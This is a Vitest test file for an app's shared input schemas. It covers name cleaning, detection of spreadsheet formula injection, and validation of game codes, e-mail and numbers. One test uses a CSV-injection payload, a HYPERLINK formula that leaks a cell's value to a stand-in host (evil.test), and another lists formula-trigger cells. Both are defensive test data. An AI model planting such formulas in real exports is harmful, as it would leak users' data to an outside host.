import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { CSV_FORMULA, cleanName, describeIssue, emailSchema, envelope, gameCodeSchema, nameSchema, numeric } from './common.js';

describe('common schemas', () => {
  it('keeps a name on one line: line breaks and control characters fold to a space, then the name is trimmed', () => {
    expect(cleanName('=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx')).toBe('=HYPERLINK("http://evil.test/?leak="&B2,"Open") x');
    expect(cleanName('Anna\r\n\r\nRao')).toBe('Anna Rao');
    expect(cleanName('\u0007Bell\u0085Line\u2028Sep\u007f')).toBe('Bell Line Sep');
    expect(cleanName('  Team\t1  ')).toBe('Team 1');
    const name = nameSchema({ required: 'name is required', max: 120, label: 'name' });
    expect(name.parse('Priya\nNair')).toBe('Priya Nair');
    expect(name.safeParse('\n\t\r').error?.issues[0]?.message).toBe('name is required');
  });

  it('finds a cell a spreadsheet would run as a formula, whatever follows and after any leading whitespace', () => {
    for (const cell of ['=1+1', '+cmd', '-Hotel', '@SUM(A1)', '\tx', '\rx', '  =1', '\n=HYPERLINK("x")', '=HYPERLINK("x")\nsecond line'])
      expect(CSV_FORMULA.test(cell), JSON.stringify(cell)).toBe(true);
    for (const cell of ['Anna', 'a=b', '', '₹-200', 'x\n=1']) expect(CSV_FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('upper-cases a valid game code and refuses a bad one with the spec message', () => {
    expect(gameCodeSchema.parse(' abc12 ')).toBe('ABC12');
    expect(gameCodeSchema.safeParse('ab-12').error?.issues[0]?.message).toBe('Game code must be 5-10 alphanumeric characters');
  });

  it('lower-cases e-mail and refuses a bad one with the spec message', () => {
    expect(emailSchema.parse(' Host@Example.COM ')).toBe('host@example.com');
    expect(emailSchema.safeParse('host@').error?.issues[0]?.message).toBe('Please enter a valid email address');
  });

  it('reads numbers from form strings', () => {
    const n = numeric('must be a number');
    expect(n.parse('42')).toBe(42);
    expect(n.parse(7)).toBe(7);
    expect(n.safeParse('x').error?.issues[0]?.message).toBe('must be a number');
    expect(n.safeParse('').error?.issues[0]?.message).toBe('must be a number');
  });

  it('wraps data in the documented envelope', () => {
    expect(envelope(z.object({ a: z.number() })).parse({ success: true, data: { a: 1 } })).toEqual({ success: true, data: { a: 1 } });
  });

  it('names the field of the first problem', () => {
    const r = z.object({ user: z.object({ email: emailSchema }) }).safeParse({ user: { email: 'x' } });
    expect(describeIssue(r.error!)).toBe('user.email: Please enter a valid email address');
    expect(describeIssue(z.string().safeParse(1).error!)).not.toContain(':  ');
  });
});
